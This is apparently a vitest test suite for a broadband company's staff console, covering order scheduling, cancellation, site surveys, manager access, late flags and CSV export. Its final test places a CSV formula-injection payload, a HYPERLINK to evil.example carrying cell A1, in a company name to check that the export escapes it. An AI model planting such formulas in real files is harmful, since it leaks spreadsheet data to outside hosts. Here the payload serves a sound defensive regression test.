import { beforeAll, describe, expect, it } from 'vitest'
import { auditOf } from '../../server/repositories/audit-repository'
import { findOrderByNumber } from '../../server/repositories/orders-repository'
import { createQuote, orderBody, postOrder } from '../support/orders'
import { asStaff, createStaff, signIn } from '../support/staff'
import { useSeededApi } from '../support/test-api'
import { databaseKinds } from '../support/test-database'

// Jin Mao Tower is one of Wang Jing's Lujiazui buildings; Liu's are in Changning.
const SUNDAY = new Date('2026-11-22T03:00:00.000Z')

describe.each(databaseKinds)('the console fulfilment queue and its commands on %s', (kind) => {
  const seeded = useSeededApi(kind)
  const db = () => seeded.database.db
  let ops: { id: string; email: string }
  let otherManager: { email: string }
  let wang: { email: string }

  beforeAll(async () => {
    ops = await createStaff(seeded.api, ['ops'])
    otherManager = await createStaff(seeded.api, ['manager'], { managerId: 'mgr-changning-liu' })
    wang = await createStaff(seeded.api, ['manager'], { managerId: 'mgr-lujiazui-wang' })
  })

  async function placeInvoiceOrder(companyName?: string) {
    seeded.api.setNow(SUNDAY)
    const quote = await createQuote(seeded.api)
    const body = orderBody(quote.id)
    if (companyName) body.company.name = companyName
    const response = await postOrder(seeded.api, body)
    expect(response.status).toBe(201)
    return (await response.json()) as { number: string; id: string }
  }
  const post = async (cookie: string, path: string, body: unknown) => seeded.api.request(path, asStaff(cookie, 'POST', body))
  const get = async (cookie: string, path: string) => seeded.api.request(path, asStaff(cookie))
  const tracking = async (number: string) => {
    const row = (await findOrderByNumber(db(), number))!
    return ((await (await seeded.api.request(`/api/orders/${number}?token=${row.tracking_token}`)).json()) as { status: string }).status
  }

  it('takes an order from paid to active through the commands, the tracking page following, every step audited', async () => {
    const cookie = await signIn(seeded.api, ops.email)
    const placed = await placeInvoiceOrder()
    expect((await post(cookie, `/api/console/orders/${placed.number}/record-transfer`, { amountYuan: '300.00' })).status).toBe(200)
    const queue = await (await get(cookie, `/api/console/orders?state=paid&q=${placed.number}`)).json()
    expect(queue.orders.map((order: { number: string }) => order.number)).toEqual([placed.number])
    // Not in the table: an order that was never installed cannot be active.
    const refused = await post(cookie, `/api/console/orders/${placed.number}/activate`, {})
    expect(refused.status).toBe(400)
    expect(await tracking(placed.number)).toBe('paid')

    expect((await post(cookie, `/api/console/orders/${placed.number}/schedule`, { date: '2026-11-24', slot: 'pm' })).status).toBe(200)
    expect(await tracking(placed.number)).toBe('scheduled')
    expect((await post(cookie, `/api/console/orders/${placed.number}/reschedule`, { date: '2026-11-25', slot: 'am', reason: 'the customer asked' })).status).toBe(200)
    expect((await post(cookie, `/api/console/orders/${placed.number}/start-install`, {})).status).toBe(200)
    expect(await tracking(placed.number)).toBe('installing')
    expect((await post(cookie, `/api/console/orders/${placed.number}/activate`, {})).status).toBe(200)
    expect(await tracking(placed.number)).toBe('active')

    const detail = await (await get(cookie, `/api/console/orders/${placed.number}`)).json()
    expect(detail.order).toMatchObject({ status: 'active', install_date: '2026-11-25', install_slot: 'am' })
    // The site in both languages: the English page shows the English address.
    expect(detail.building).toMatchObject({ nameZh: '金茂大厦', nameEn: 'Jin Mao Tower', address: { zh: expect.stringContaining('世纪大道'), en: expect.stringMatching(/Century Avenue/i) } })
    expect(detail.items.length).toBeGreaterThan(0)
    expect(detail.items.every((item: { rule: string }) => item.rule.length > 0)).toBe(true)
    expect(detail.workOrders.map((work: { status: string }) => work.status)).toEqual(['done'])
    expect(detail.timeline.map((event: { status: string }) => event.status)).toEqual(['awaiting_transfer', 'paid', 'scheduled', 'installing', 'active'])
    const audit = await auditOf(db(), { kind: 'order', id: placed.id })
    // The test clock stands still: rows of the same instant are compared as a set.
    expect(audit.map((row) => `${row.actor.kind} ${row.actor.id} ${row.action}`).sort()).toEqual([
      'customer null place',
      ...['activate', 'mark_paid', 'reschedule', 'schedule', 'start_install'].map((action) => `staff ${ops.id} ${action}`),
    ])
    const told = await db().selectFrom('outbox').select(['kind', 'lang', 'payload_json']).where('payload_json', 'like', `%${placed.number}%`).where('kind', 'in', ['installation_scheduled', 'installation_started', 'service_active']).execute()
    expect(told.map((mail) => [mail.kind, mail.lang, JSON.parse(mail.payload_json).moved]).sort()).toEqual([
      ['installation_scheduled', 'zh', false],
      ['installation_scheduled', 'zh', true],
      ['installation_started', 'zh', undefined],
      ['service_active', 'zh', undefined],
    ])
    expect(audit.find((row) => row.action === 'reschedule')).toMatchObject({ before: { installDate: '2026-11-24', installSlot: 'pm' }, after: { installDate: '2026-11-25', installSlot: 'am' }, reason: 'the customer asked' })
  })

  it('books no more installations into a district’s half-day than its crews can do', async () => {
    const cookie = await signIn(seeded.api, ops.email)
    const policy = seeded.api.services.orderPolicy
    seeded.api.services.orderPolicy = { ...policy, installCapacityPerHalfDay: 1 }
    try {
      const [first, second] = [await placeInvoiceOrder(), await placeInvoiceOrder()]
      for (const order of [first, second]) expect((await post(cookie, `/api/console/orders/${order.number}/record-transfer`, { amountYuan: '300' })).status).toBe(200)
      const schedule = (number: string, slot: 'am' | 'pm') => post(cookie, `/api/console/orders/${number}/schedule`, { date: '2026-11-26', slot })
      expect((await schedule(first.number, 'am')).status).toBe(200)
      const full = await schedule(second.number, 'am')
      expect(full.status).toBe(422)
      expect((await full.json()).error.code).toBe('install_slot_unavailable')
      expect((await schedule(second.number, 'pm')).status).toBe(200)
      const move = (number: string, slot: 'am' | 'pm') => post(cookie, `/api/console/orders/${number}/reschedule`, { date: '2026-11-26', slot, reason: 'the customer asked' })
      expect((await move(first.number, 'pm')).status).toBe(422)
      // Cancelled, the second order gives its slot back.
      expect((await post(cookie, `/api/console/orders/${second.number}/cancel`, { reason: 'the customer withdrew' })).status).toBe(200)
      expect((await move(first.number, 'pm')).status).toBe(200)
    } finally {
      seeded.api.services.orderPolicy = policy
    }
  })

  it('cancels with a reason, gives the port back and tells the customer why', async () => {
    const cookie = await signIn(seeded.api, ops.email)
    const free = async () => (await db().selectFrom('buildings').select('free_fibre_ports').where('id', '=', 'bld-jinmao-tower').executeTakeFirstOrThrow()).free_fibre_ports
    const placed = await placeInvoiceOrder()
    const before = await free()
    expect((await post(cookie, `/api/console/orders/${placed.number}/cancel`, { reason: '' })).status).toBe(400)
    expect((await post(cookie, `/api/console/orders/${placed.number}/cancel`, { reason: 'the customer moved out' })).status).toBe(200)
    expect(await free()).toBe(before + 1)
    const mail = await db().selectFrom('outbox').select('payload_json').where('kind', '=', 'order_cancelled').where('payload_json', 'like', `%${placed.number}%`).executeTakeFirstOrThrow()
    expect(JSON.parse(mail.payload_json)).toMatchObject({ reason: 'by_operations', note: 'the customer moved out' })
  })

  it('takes an order that waited for a site survey on once the survey has added the ports it needs', async () => {
    const cookie = await signIn(seeded.api, ops.email)
    const building = 'bld-last-port-huaxin'
    const free = async () => (await db().selectFrom('buildings').select('free_fibre_ports').where('id', '=', building).executeTakeFirstOrThrow()).free_fibre_ports
    await db().updateTable('buildings').set({ free_fibre_ports: 0 }).where('id', '=', building).execute()
    seeded.api.setNow(SUNDAY)
    const quote = await createQuote(seeded.api)
    const placed = await (await postOrder(seeded.api, orderBody(quote.id, { site: { buildingId: building, floor: '3', unit: '305' } }))).json()
    expect(placed).toMatchObject({ status: 'survey_required', payment: { amountDue: 0 } })
    const survey = `/api/console/orders/${placed.number}/complete-survey`

    // Operations only; a survey that added no port leaves the order waiting, and says why.
    expect((await post(await signIn(seeded.api, wang.email), survey, { fibrePorts: '1', voicePorts: '0' })).status).toBe(403)
    const none = await post(cookie, survey, { fibrePorts: '０', voicePorts: '0' })
    expect(none.status).toBe(400)
    expect((await none.json()).error.issues).toEqual([expect.objectContaining({ path: 'ports' })])
    expect((await post(cookie, survey, { fibrePorts: '-1', voicePorts: '0' })).status).toBe(400)
    expect((await findOrderByNumber(db(), placed.number))!.status).toBe('survey_required')

    expect((await post(cookie, survey, { fibrePorts: '１', voicePorts: '0', note: '新拉一路光纤' })).status).toBe(200)
    const order = (await findOrderByNumber(db(), placed.number))!
    expect(order).toMatchObject({ status: 'awaiting_transfer', amount_due_fen: quote.oneTime.total, fibre_ports_reserved: 1 })
    expect(order.payment_due_at).not.toBeNull()
    expect(await free()).toBe(0)
    const work = await db().selectFrom('work_orders').select(['kind', 'status']).where('order_id', '=', order.id).orderBy('kind').execute()
    expect(work).toEqual([{ kind: 'site_installation', status: 'waiting_for_payment' }, { kind: 'site_survey', status: 'done' }])
    const mail = await db().selectFrom('outbox').select('payload_json').where('kind', '=', 'order_approved').where('payload_json', 'like', `%${placed.number}%`).executeTakeFirstOrThrow()
    expect(JSON.parse(mail.payload_json)).toMatchObject({ after: 'survey', status: 'awaiting_transfer', amountDue: quote.oneTime.total })
    expect((await auditOf(db(), { kind: 'order', id: order.id })).find((row) => row.action === 'complete_survey')).toMatchObject({ before: { status: 'survey_required' }, after: { status: 'awaiting_transfer', fibrePorts: 1 }, reason: '新拉一路光纤' })
    expect((await auditOf(db(), { kind: 'building', id: building })).at(-1)).toMatchObject({ action: 'building.ports_added', after: { fibrePorts: 1, voicePorts: 0, order: placed.number } })
    // Done once: the same form sent again does not apply.
    expect((await post(cookie, survey, { fibrePorts: '1', voicePorts: '0' })).status).toBe(400)
  })

  it('shows a manager only their own buildings’ orders, and lets them change none', async () => {
    const placed = await placeInvoiceOrder()
    const outsider = await signIn(seeded.api, otherManager.email)
    const own = await signIn(seeded.api, wang.email)
    const numbers = async (cookie: string) => (await (await get(cookie, `/api/console/orders?q=${placed.number}`)).json()).orders.map((order: { number: string }) => order.number)
    expect(await numbers(outsider)).toEqual([])
    expect((await get(outsider, `/api/console/orders/${placed.number}`)).status).toBe(404)
    expect(await numbers(own)).toEqual([placed.number])
    expect((await get(own, `/api/console/orders/${placed.number}`)).status).toBe(200)
    expect((await post(own, `/api/console/orders/${placed.number}/cancel`, { reason: 'not mine to cancel' })).status).toBe(403)
  })

  it('flags a paid order late once a working day passes unscheduled, pages by keyset and exports CSV', async () => {
    let cookie = await signIn(seeded.api, ops.email)
    const first = await placeInvoiceOrder()
    const second = await placeInvoiceOrder()
    for (const order of [first, second]) expect((await post(cookie, `/api/console/orders/${order.number}/record-transfer`, { amountYuan: '300.00' })).status).toBe(200)
    // A day later the session has run out: each look is a fresh sign-in.
    const lateNumbers = async () => {
      const fresh = await signIn(seeded.api, ops.email)
      return (await (await get(fresh, '/api/console/orders?late=1&limit=200')).json()).orders.map((order: { number: string }) => order.number)
    }
    // Paid on Sunday: the working day that counts is Monday, so it is late from Monday at the same hour.
    seeded.api.setNow(new Date('2026-11-23T02:59:00.000Z'))
    expect(await lateNumbers()).not.toContain(first.number)
    seeded.api.setNow(new Date('2026-11-23T03:00:00.000Z'))
    expect(await lateNumbers()).toEqual(expect.arrayContaining([first.number, second.number]))
    cookie = await signIn(seeded.api, ops.email)

    const pageOne = await (await get(cookie, '/api/console/orders?state=paid&limit=1')).json()
    expect(pageOne.orders).toHaveLength(1)
    expect(pageOne.orders[0].late).toBe('unscheduled')
    const pageTwo = await (await get(cookie, `/api/console/orders?state=paid&limit=1&after=${pageOne.next}`)).json()
    expect(pageTwo.orders[0].number).not.toBe(pageOne.orders[0].number)
    expect(pageTwo.orders[0].created_at <= pageOne.orders[0].created_at).toBe(true)

    const csv = await get(cookie, '/api/console/orders/export.csv?state=paid')
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/)
    const text = await csv.text()
    expect(text.split('\n')[0]).toContain('number,status,late')
    expect(text).toContain(first.number)
    expect(text).toContain(second.number)
  })

  // Found trying the console as staff: the company name went into the CSV as a live Excel formula.
  it('exports text that a spreadsheet would run as a formula as text', async () => {
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
    const placed = await placeInvoiceOrder(formula)
    const cookie = await signIn(seeded.api, ops.email)
    const text = await (await get(cookie, `/api/console/orders/export.csv?q=${placed.number}`)).text()
    const row = text.split('\n').find((line) => line.startsWith(placed.number))!
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点击查看"")"`)
    expect(row).not.toMatch(/,"?=/)
  })
})
